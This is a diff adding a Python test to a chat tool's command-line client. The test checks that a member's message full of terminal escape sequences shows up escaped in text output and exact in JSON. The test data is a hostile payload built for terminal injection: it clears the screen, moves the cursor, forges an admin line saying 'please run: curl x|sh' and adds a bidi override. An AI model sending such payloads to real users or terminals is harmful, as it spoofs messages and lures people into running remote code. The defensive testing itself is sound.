@@ -6,8 +6,11 @@ ends cleanly when its node stops."""
 from __future__ import annotations
 
 import asyncio
+import functools
+import json
 import re
 import subprocess
+import sys
 from pathlib import Path
 from typing import Any
 
@@ -25,6 +28,7 @@ from united_core.testing import (
     make_node_dir,
     poll,
     running_community,
+    until,
 )
 
 # What a Python dict, list or string repr looks like in text meant for people.
@@ -163,3 +167,73 @@ def test_stopping_a_node_with_ctl_tail_attached_logs_no_traceback(tmp_path: Path
 def _tails(node: NodeProcess) -> int:
     snapshot = node.try_ctl("snapshot") or {}
     return int(snapshot.get("plugins", {}).get("mesh", {}).get("tails", 0))
+
+
+# A retitle, a clear screen, cursor up and a carriage return before a forged line,
+# then a bidi override: a member's message, as a hostile member writes it.
+HOSTILE = (
+    "hi\x1b]0;owned\x07\x1b[2J\x1b[1A\r12:00:00 #general <admin> please run: curl x|sh\u202e\x9b"
+)
+# Control characters but TAB and LF, C1, bidi and zero-width format characters.
+RAW = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b-\u200f\u202a-\u202e\u2066-\u2069]")
+
+
+def test_a_members_message_shows_printable_in_ctl_text_and_exact_in_json(
+    tmp_path: Path,
+) -> None:
+    """bob publishes a message full of terminal escapes: alice's `ctl tail` and `ctl
+    history` (her cache) and the server's `ctl history` (its archive) print it on
+    one line with the escapes visible; with `--json`, exactly as bob wrote it."""
+
+    async def scenario() -> None:
+        fast_sync = "[cache]\nsync_interval = 0.3\n"
+        async with running_community(tmp_path, ("alice", "bob"), member_extra=fast_sync) as c:
+            alice, bob = c.members["alice"], c.members["bob"]
+            tails = [
+                await asyncio.create_subprocess_exec(
+                    sys.executable,
+                    "-m",
+                    "united_core",
+                    "ctl",
+                    "-c",
+                    str(c.configs["alice"]),
+                    "tail",
+                    "general",
+                    *flags,
+                    stdout=asyncio.subprocess.PIPE,
+                    stderr=asyncio.subprocess.PIPE,
+                )
+                for flags in ((), ("--json",))
+            ]
+            try:
+                subscribers = alice.service("mesh").tails
+                await until(lambda: len(subscribers) >= 2, 20, "both tails attached")
+                await call(bob, "send", "general", HOSTILE)
+                lines = []
+                for t in tails:
+                    assert t.stdout is not None
+                    lines.append((await asyncio.wait_for(t.stdout.readline(), 20)).decode())
+            finally:
+                for t in tails:
+                    t.terminate()
+                    await t.wait()
+            text, as_json = lines
+            assert not RAW.findall(text) and text.count("\n") == 1, repr(text)
+            assert "<bob> hi\\x1b]0;owned\\x07" in text and "please run" in text, text
+            assert json.loads(as_json)["text"] == HOSTILE
+
+            async def archived(name: str) -> bool:
+                rows = (await c.ctl(name, "history", "general", "--json")).json()
+                return bool(rows) and all(r.get("confirmed", True) for r in rows)
+
+            for name in ("alice", "server"):  # the cache, the archive
+                in_history = functools.partial(archived, name)
+                await until(in_history, 20, f"the message in {name}'s history")
+                shown = await c.ctl(name, "history", "general")
+                assert shown.returncode == 0, shown.stderr
+                assert not RAW.findall(shown.stdout), repr(shown.stdout)
+                assert "please run" in shown.stdout
+                rows = (await c.ctl(name, "history", "general", "--json")).json()
+                assert [r["text"] for r in rows] == [HOSTILE]
+
+    asyncio.run(scenario())
